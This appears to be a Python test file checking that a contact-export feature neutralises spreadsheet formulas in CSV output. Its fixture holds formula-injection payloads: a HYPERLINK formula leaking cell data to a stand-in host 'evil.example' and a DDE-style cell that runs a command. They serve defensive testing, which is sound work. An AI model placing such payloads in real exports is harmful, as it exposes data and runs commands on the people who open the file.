"""Exports: what a spreadsheet opening the file would run."""

from __future__ import annotations

import csv
import io
from typing import Any

from httpx import AsyncClient

from app.core.csvout import safe_cell
from tests.fixtures.factories import World

HOSTILE: dict[str, Any] = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "last_name": "@SUM(1+1)",
    "mobile": "0722 123 456",
    "address": {"street": "+1+cmd|' /C calc'!A0", "number": "-2+3", "city": "Cluj-Napoca"},
    "location": {"lon": -8.61, "lat": 41.15},
}


def test_formula_cells_are_neutralised_and_plain_numbers_left_alone() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1")] == [
        "'=1+1",
        "'+1+1",
        "'-1+1",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert [safe_cell(v) for v in ("+40722123456", "-8.61", "Ioana", "", None, -8.61, 3)] == [
        "+40722123456",
        "-8.61",
        "Ioana",
        "",
        None,
        -8.61,
        3,
    ]


async def test_an_export_writes_no_cell_a_spreadsheet_would_run(client: AsyncClient, world: World) -> None:
    h = world.a["manager"].headers
    assert (await client.post("/api/v1/contacts", json=HOSTILE, headers=h)).status_code == 201
    cols = ["first_name", "last_name", "mobile", "street", "number", "city", "lon"]
    r = await client.post("/api/v1/exports", json={"filter": {}, "columns": cols}, headers=h)
    assert r.status_code == 201, r.text
    rows = list(csv.reader(io.StringIO((await client.get(r.json()["download_path"], headers=h)).text.lstrip("\ufeff"))))
    assert rows == [
        cols,
        [
            "'" + HOSTILE["first_name"],
            "'@SUM(1+1)",
            "+40722123456",
            "'+1+cmd|' /C calc'!A0",
            "'-2+3",
            "Cluj-Napoca",
            "-8.61",
        ],
    ]
